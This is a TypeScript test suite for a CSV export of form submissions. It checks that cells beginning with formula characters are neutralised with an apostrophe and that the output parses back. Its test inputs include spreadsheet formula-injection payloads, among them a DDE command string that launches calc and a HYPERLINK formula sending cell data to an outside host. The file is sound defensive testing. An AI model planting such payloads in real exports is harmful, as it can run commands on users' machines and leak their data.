import fc from "fast-check";
import { describe, expect, it } from "vitest";
import { renderCsvHeader, renderCsvLines, safeCell, type CsvSubmission } from "../../src/contract/submission-csv.ts";

function submission(fields: readonly (readonly [string, string | readonly string[]])[]): CsvSubmission {
  const facts = { submissionId: "sb_1", createdAt: "2026-08-01T10:00:00.000Z", pageSlug: "a", formId: "fm_1" };
  return { ...facts, email: "", lead: "false", fields: new Map(fields) };
}

/** Parses CSV strictly as defined in RFC 4180, with all cells quoted. */
function parseCsv(text: string): readonly (readonly string[])[] {
  const rows: string[][] = [[]];
  const cell = /"((?:[^"]|"")*)"(,|\r\n)/gy;
  while (cell.lastIndex < text.length) {
    const at = cell.lastIndex;
    const [, content = "", end] = cell.exec(text) ?? [];
    if (end === undefined) throw new Error(`No cell at ${at}: ${JSON.stringify(text.slice(at, at + 40))}`);
    rows.at(-1)?.push(content.replaceAll('""', '"'));
    if (end === "\r\n") rows.push([]);
  }
  return rows.slice(0, -1);
}

describe("a cell", () => {
  it.each([
    "=1+1",
    "+1",
    "-1",
    "@SUM(A1)",
    "\t=1",
    "\r=1",
    "\n=1",
    "\0=1",
    "\t",
    " =1+1",
    "\u00a0=cmd|' /C calc'!A0",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(A1)",
    '=HYPERLINK("http://example.org?"&A1)',
  ])("that a spreadsheet could execute gets an apostrophe: %j", (text) => {
    expect(safeCell(text)).toBe(`'${text}`);
  });

  it.each(["", "a=1", "1-1", "a@example.org", "'=1", "ß", " text", "(1)", "%"])("stays unchanged: %j", (text) => {
    expect(safeCell(text)).toBe(text);
  });
});

describe("the CSV of submissions", () => {
  it("starts with a byte order mark and the names of all columns, with safe field names", () => {
    const header = renderCsvHeader(["name", "=x", "email"]);
    expect(header).toBe(
      '\uFEFF"submissionId","createdAt","pageSlug","formId","email","lead","name","\'=x","field email"\r\n',
    );
  });

  it("has one line per submission, with empty cells for missing fields and joined repeated values", () => {
    const lines = renderCsvLines([submission([["b", ["1", "2"]]]), submission([["a", 'say "hi"\nthere']])], ["a", "b"]);
    expect(parseCsv(lines).map((row) => row.slice(6))).toEqual([
      ["", "1; 2"],
      ['say "hi"\nthere', ""],
    ]);
  });

  it("can be parsed back, except for the apostrophe, whatever people type", () => {
    const text = fc.oneof(
      fc.string({ unit: "binary" }),
      fc.string({
        unit: fc.constantFrom("=", "+", "-", "@", "\t", "\r", "\n", '"', ",", ";", "'", "\0", "a", "\u2028", "＝"),
      }),
    );
    fc.assert(
      fc.property(
        fc.uniqueArray(text, { maxLength: 5 }),
        fc.array(fc.array(text, { maxLength: 5 }), { maxLength: 5 }),
        (names, rows) => {
          const submissions = rows.map((row) =>
            submission(names.flatMap((name, index) => (index < row.length ? [[name, row[index] ?? ""] as const] : []))),
          );
          const parsed = parseCsv(renderCsvHeader(names).slice(1) + renderCsvLines(submissions, names));
          expect(parsed).toHaveLength(rows.length + 1);
          for (const [index, row] of rows.entries()) {
            const expected = names.map((_, column) => safeCell(row[column] ?? ""));
            expect(parsed[index + 1]?.slice(6)).toEqual(expected);
          }
          for (const cell of parsed.flat()) expect(cell).not.toMatch(/^[=+\-@\t\r\n\0＝＋－＠]/);
        },
      ),
    );
  });
});
